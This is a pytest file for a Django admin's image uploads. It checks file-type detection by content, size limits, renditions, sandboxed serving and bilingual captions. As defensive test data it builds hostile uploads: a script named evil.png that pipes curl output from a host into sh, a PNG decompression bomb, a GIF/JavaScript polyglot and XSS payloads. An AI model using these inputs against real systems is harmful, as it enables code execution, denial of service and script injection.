"""Image uploads through the admin's real form: checked by content, bounded, made into renditions."""

import importlib
import re
import struct
import zlib
from io import BytesIO
from pathlib import PurePosixPath

import pytest
from django.contrib.auth.models import Group, User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.db.migrations.loader import MigrationLoader
from django.test import Client
from PIL import Image as PillowImage
from PIL.PngImagePlugin import PngInfo

from bluepaper.tests.factories import ChapterFactory
from core.images import image_make_renditions, image_rename_by_content, rendition_name, rendition_sizes
from core.models import Image
from core.tests.admin_forms import form_values

pytestmark = pytest.mark.django_db
PASSWORD = "a-long-editor-passphrase"
ADD_URL = "/admin/core/image/add/"


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    """Uploads go to a folder of their own, so a test can see everything that was written."""
    settings.MEDIA_ROOT = tmp_path / "media"
    return settings.MEDIA_ROOT


@pytest.fixture
def editor_client():
    """An English-speaking browser, logged in through the login form as a member of Editors."""
    user = User.objects.create_user("image-editor", password=PASSWORD, is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    client = Client(enforce_csrf_checks=True, headers={"Accept-Language": "en"})
    token = csrf_token(client.get("/admin/login/"))
    response = client.post(
        "/admin/login/",
        {"username": user.username, "password": PASSWORD, "csrfmiddlewaretoken": token, "next": "/admin/"},
    )
    assert response.status_code == 302
    return client


def csrf_token(response):
    match = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', response.content.decode())
    assert match, "the form carries no CSRF token"
    return match.group(1)


def upload(client, name, content, **fields):
    """Fill the add form the way a browser does and send the file."""
    data = {
        "alt_text_zh_hans": "京津冀城际铁路地图",
        "alt_text_en": "Map of the intercity railways of Beijing, Tianjin and Hebei",
        "caption_zh_hans": "城际铁路",
        "caption_en": "Intercity railways",
        "credit_zh_hans": "蓝皮书网站",
        "credit_en": "Blue Paper",
        **fields,
    }
    token = csrf_token(client.get(ADD_URL))
    file = SimpleUploadedFile(name, content, content_type="image/png")
    return client.post(ADD_URL, {**data, "file": file, "csrfmiddlewaretoken": token})


def png(width=1000, height=600, mode="RGB"):
    buffer = BytesIO()
    PillowImage.new(mode, (width, height), "#0f4c92").save(buffer, "PNG")
    return buffer.getvalue()


def png_bomb(width=20_000, height=20_000):
    """A valid 1-bit PNG of width × height: 50 MB of pixels in about 50 KB of file."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    compressor = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)  # filter byte, then the row's bits
    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def written_files(media_root):
    return [path for path in media_root.rglob("*") if path.is_file()] if media_root.exists() else []


def test_a_real_png_is_accepted_and_gets_renditions(editor_client, media_root):
    response = upload(editor_client, "railways.png", png(1000, 600))
    assert response.status_code == 302, response.content.decode()[:3000]
    image = Image.objects.get()
    assert (image.width, image.height) == (1000, 600)
    assert image.alt_text_en.startswith("Map of the intercity railways")
    stem = PurePosixPath(image.file.name).stem
    sizes = {}
    for path in (media_root / "renditions").rglob("*.webp"):
        with PillowImage.open(path) as rendition:
            sizes[path.name] = rendition.size
    assert sizes == {
        f"{stem}-png-480w.webp": (480, 288),
        f"{stem}-png-960w.webp": (960, 576),
        f"{stem}-png-1000w.webp": (1000, 600),
    }


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        pytest.param(
            "huge.png", png_bomb(), "This image is 20000 × 20000 pixels; the limit is 40,000,000 pixels.",
            id="20000x20000-png",
        ),
        pytest.param(
            "big.png", png(10, 10) + bytes(30 * 1024 * 1024), "This file is 30.0 MB; the limit is 10 MB.",
            id="30-mb-file",
        ),
        pytest.param(
            "evil.png", b"#!/bin/sh\ncurl https://example.com/x | sh\n",
            "This file is not a PNG, JPEG, WebP or GIF image.", id="script-named-png",
        ),
    ],
)  # fmt: skip
def test_a_bad_upload_is_refused_with_a_clear_message_and_nothing_written(
    editor_client, media_root, name, content, message
):
    response = upload(editor_client, name, content)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert not Image.objects.exists()
    assert not Image.history.exists()
    assert written_files(media_root) == []


def test_the_alt_text_is_required_in_both_languages(editor_client, media_root):
    response = upload(editor_client, "railways.png", png(), alt_text_en="")
    assert response.status_code == 200
    assert "Write the alternative text in English too" in response.content.decode()
    assert not Image.objects.exists()
    assert written_files(media_root) == []


def test_the_refusal_is_in_the_editors_language(editor_client):
    editor_client.cookies["django_language"] = "zh-hans"
    response = upload(editor_client, "evil.png", b"<script>alert(1)</script>")
    assert "此文件不是 PNG、JPEG、WebP 或 GIF 图片。" in response.content.decode()


def turned_jpeg(width=300, height=200):
    """A JPEG whose EXIF says the camera was turned: it is seen rotated 90°, `height` wide."""
    exif = PillowImage.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to show
    exif[0x010F] = "A camera maker"
    buffer = BytesIO()
    PillowImage.new("RGB", (width, height), "white").save(buffer, "JPEG", exif=exif)
    return buffer.getvalue()


def test_renditions_are_upright_never_upscaled_and_carry_no_metadata(media_root):
    image = Image.objects.create(
        file=SimpleUploadedFile("photo.jpg", turned_jpeg()), alt_text_zh_hans="照片", alt_text_en="A photo"
    )
    names = image_make_renditions(image=image)
    assert names == ["renditions/" + image.file.name.removesuffix(".jpg") + "-jpg-200w.webp"]
    with PillowImage.open(media_root / names[0]) as rendition:
        assert rendition.size == (200, 300)
        assert not rendition.getexif()
    image.refresh_from_db()
    assert (image.width, image.height) == (200, 300)


def test_editing_the_caption_keeps_the_upright_size_and_the_file(editor_client):
    assert upload(editor_client, "photo.jpg", turned_jpeg()).status_code == 302
    image = Image.objects.get()
    assert (image.width, image.height) == (200, 300)
    change_url = f"/admin/core/image/{image.pk}/change/"
    page = editor_client.get(change_url)
    response = editor_client.post(
        change_url,
        {"alt_text_zh_hans": "照片", "alt_text_en": "A photo", "caption_zh_hans": "新图注",
         "caption_en": "A new caption", "credit_zh_hans": "", "credit_en": "", "csrfmiddlewaretoken": csrf_token(page),
         "edit_token": form_values(page.content.decode())["edit_token"][0]},
    )  # fmt: skip
    assert response.status_code == 302, response.content.decode()[:3000]
    edited = Image.objects.get()
    assert (edited.file.name, edited.width, edited.height) == (image.file.name, 200, 300)
    assert edited.caption_en == "A new caption"


def test_a_chapter_shows_its_image_with_the_alt_text_of_each_language(media_root):
    buffer = BytesIO()
    PillowImage.new("RGB", (1200, 600), "white").save(buffer, "PNG")
    image = Image.objects.create(
        file=SimpleUploadedFile("map.png", buffer.getvalue()),
        alt_text_zh_hans="京津冀地图",
        alt_text_en="Map of Beijing, Tianjin and Hebei",
        caption_zh_hans="区域概览",
        credit="Blue Paper",
    )
    image_make_renditions(image=image)
    chapter = ChapterFactory(image=image)
    client = Client()

    chinese = client.get(chapter.get_absolute_url()).content.decode()
    english = client.get("/en" + chapter.get_absolute_url()).content.decode()

    img = re.compile(
        r'<img src="[^"]+-960w\.webp" srcset="[^"]+-480w\.webp 480w, [^"]+-960w\.webp 960w, '
        r'[^"]+-1200w\.webp 1200w" sizes="[^"]+" width="1200" height="600" alt="([^"]+)"'
    )
    assert img.search(chinese).group(1) == "京津冀地图"
    assert img.search(english).group(1) == "Map of Beijing, Tianjin and Hebei"
    assert 'loading="lazy" decoding="async"' in english
    # No English caption yet: the Chinese one is shown, marked as Chinese.
    assert '<figcaption><span lang="zh-Hans">区域概览</span> — ' in english


# Stored names and served types come from the content (S1) ------------------------------------


def gif_javascript_polyglot():
    """A real GIF that is also a script: `GIF89a/*…*/=1;alert(document.domain);`.

    10799 pixels wide, because that width's two header bytes are "/*", opening a comment that
    hides the rest of the image from a JavaScript parser.
    """
    buffer = BytesIO()
    PillowImage.new("P", (10799, 2), 0).save(buffer, "GIF")
    body = b"GIF89a" + buffer.getvalue()[6:]
    assert body.startswith(b"GIF89a/*") and b"*/" not in body
    return body + b"*/=1;alert(document.domain);"


def png_with_script():
    """A real PNG whose text chunk holds a script tag, as an HTML parser would find it."""
    text = PngInfo()
    text.add_text("Comment", '<script src="/media/images/x.js"></script>')
    buffer = BytesIO()
    PillowImage.new("RGB", (40, 30), "white").save(buffer, "PNG", pnginfo=text)
    return buffer.getvalue()


def jpeg_with_a_second_picture():
    """A JPEG as some cameras write it (MPO): a second picture after the first."""
    buffer = BytesIO()
    first, second = PillowImage.new("RGB", (40, 30), "red"), PillowImage.new("RGB", (40, 30), "blue")
    first.save(buffer, "MPO", save_all=True, append_images=[second])
    return buffer.getvalue()


def served(client, image):
    """Fetch the stored original the way a browser following its URL would."""
    response = client.get(image.file.url)
    assert response.status_code == 200, image.file.url
    return response


def assert_sandboxed_image(response, content_type):
    assert response["Content-Type"] == content_type
    assert response["X-Content-Type-Options"] == "nosniff"
    policy = [part.strip() for part in response["Content-Security-Policy"].split(";")]
    assert "sandbox" in policy and "default-src 'none'" in policy


@pytest.mark.parametrize(
    ("name", "content", "extension", "content_type"),
    [
        pytest.param("x.js", gif_javascript_polyglot(), ".gif", "image/gif", id="gif-js-polyglot-named-js"),
        pytest.param("x.html", png_with_script(), ".png", "image/png", id="png-with-script-named-html"),
        pytest.param("x.mpo", jpeg_with_a_second_picture(), ".jpg", "image/jpeg", id="camera-mpo-jpeg"),
    ],
)
def test_an_upload_is_stored_and_served_as_what_its_content_is(
    editor_client, media_root, name, content, extension, content_type
):
    assert upload(editor_client, name, content).status_code == 302
    image = Image.objects.get()
    stored = PurePosixPath(image.file.name)
    assert stored.suffix == extension
    assert PurePosixPath(name).stem not in stored.stem
    assert_sandboxed_image(served(Client(), image), content_type)
    assert Client().get(f"/media/{stored.parent}/{name}").status_code == 404


@pytest.mark.parametrize("name", ["map.svg", "map.pdf", "map.PNG.exe", "map"])
def test_a_png_under_another_name_is_stored_as_png(editor_client, media_root, name):
    assert upload(editor_client, name, png(40, 30)).status_code == 302
    stored = Image.objects.get().file.name
    assert stored.endswith(".png") and stored.count(".") == 1
    assert [path.suffix for path in written_files(media_root / "images")] == [".png"]


def test_renditions_are_served_as_sandboxed_webp(editor_client, media_root):
    assert upload(editor_client, "railways.png", png(600, 300)).status_code == 302
    image = Image.objects.get()
    response = Client().get(image.file.storage.url(rendition_name(image.file.name, 480)))
    assert response.status_code == 200
    assert_sandboxed_image(response, "image/webp")


def test_the_media_server_serves_no_file_that_is_not_an_image(media_root):
    # A file left from before names came from content, or put there by hand.
    (media_root / "images").mkdir(parents=True)
    (media_root / "images" / "x.html").write_text("<script>alert(1)</script>")
    (media_root / "images" / "x.svg").write_text("<svg onload='alert(1)'/>")
    assert Client().get("/media/images/x.html").status_code == 404
    assert Client().get("/media/images/x.svg").status_code == 404


@pytest.mark.parametrize("second_name", ["ok.jpg", "ok.png"])
def test_two_uploads_with_one_name_never_share_a_rendition(editor_client, media_root, second_name):
    assert upload(editor_client, "ok.jpg", png(600, 300)).status_code == 302
    first = Image.objects.get()
    first_renditions = {path: path.read_bytes() for path in (media_root / "renditions").rglob("*.webp")}

    other = BytesIO()
    PillowImage.new("RGB", (600, 300), "#c03").save(other, "JPEG")
    assert upload(editor_client, second_name, other.getvalue()).status_code == 302
    second = Image.objects.exclude(pk=first.pk).get()

    assert first.file.name != second.file.name
    first_names = {rendition_name(first.file.name, width) for width, _ in rendition_sizes(600, 300)}
    second_names = {rendition_name(second.file.name, width) for width, _ in rendition_sizes(600, 300)}
    assert not first_names & second_names
    assert all(path.read_bytes() == content for path, content in first_renditions.items())


def test_an_image_stored_under_its_uploads_name_moves_to_a_name_from_its_content(media_root):
    # As uploaded before names came from content: a PNG kept as x.html, renditions after its stem.
    (media_root / "images" / "2026" / "11").mkdir(parents=True)
    (media_root / "images" / "2026" / "11" / "x.html").write_bytes(png_with_script())
    image = Image.objects.create(file="images/2026/11/x.html", alt_text_zh_hans="图", alt_text_en="Picture")
    (media_root / "renditions" / "images" / "2026" / "11").mkdir(parents=True)
    old_rendition = media_root / "renditions" / "images" / "2026" / "11" / "x-40w.webp"
    old_rendition.write_bytes(b"old")
    image.refresh_from_db()

    assert image_rename_by_content(image=image)

    image.refresh_from_db()
    assert image.file.name.startswith("images/2026/11/") and image.file.name.endswith(".png")
    assert not (media_root / "images" / "2026" / "11" / "x.html").exists()
    assert not old_rendition.exists()
    assert (media_root / rendition_name(image.file.name, 40)).exists()
    assert_sandboxed_image(served(Client(), image), "image/png")


# Credits in the page's language (docs/decisions/0040) --------------------------------------


def test_a_credit_given_in_one_language_is_asked_for_in_the_other(editor_client, media_root):
    response = upload(editor_client, "map.png", png(), credit_zh_hans="本站制图", credit_en="")
    assert response.status_code == 200
    assert "Write the credit in English too: the English pages show it." in response.content.decode()
    assert not Image.objects.exists()
    assert upload(editor_client, "map.png", png(), credit_zh_hans="", credit_en="").status_code == 302  # none: fine


def test_the_credit_follows_the_page_language(media_root):
    image = Image.objects.create(
        file=SimpleUploadedFile("chart.png", png()), alt_text_zh_hans="示意图", alt_text_en="Diagram",
        credit_zh_hans="本站制图", credit_en="Chart by this site",
    )  # fmt: skip
    image_make_renditions(image=image)
    url = ChapterFactory(image=image).get_absolute_url()
    chinese = Client().get(url).content.decode()
    english = Client().get("/en" + url).content.decode()
    assert '<span class="picture__credit">Chart by this site</span>' in english and "本站制图" not in english
    assert '<span class="picture__credit">本站制图</span>' in chinese
    image.credit_en = ""  # an old credit nobody has translated yet
    image.save()
    english = Client().get("/en" + url).content.decode()
    assert '<span class="picture__credit" lang="zh-Hans">本站制图</span>' in english


def test_the_migration_gives_existing_credits_both_languages(media_root):
    migration = importlib.import_module("core.migrations.0010_image_credit_in_both_languages")
    # The model as the migration sees it: the plain `credit` column, no translation machinery.
    state = MigrationLoader(connection).project_state(("core", "0010_image_credit_in_both_languages"))
    stored = state.apps.get_model("core", "Image").objects
    standard = Image.objects.create(file=SimpleUploadedFile("a.png", png()), alt_text_zh_hans="图", alt_text_en="A")
    other = Image.objects.create(file=SimpleUploadedFile("b.png", png()), alt_text_zh_hans="图", alt_text_en="B")
    stored.filter(pk=standard.pk).update(credit="本站制图", credit_zh_hans=None, credit_en=None)
    stored.filter(pk=other.pk).update(credit="新华社", credit_zh_hans=None, credit_en=None)
    migration.credits_in_both_languages(state.apps, None)
    credits = dict(stored.values_list("pk", "credit_en"))
    assert credits == {standard.pk: "Chart by this site", other.pk: ""}
    assert set(stored.values_list("credit_zh_hans", flat=True)) == {"本站制图", "新华社"}
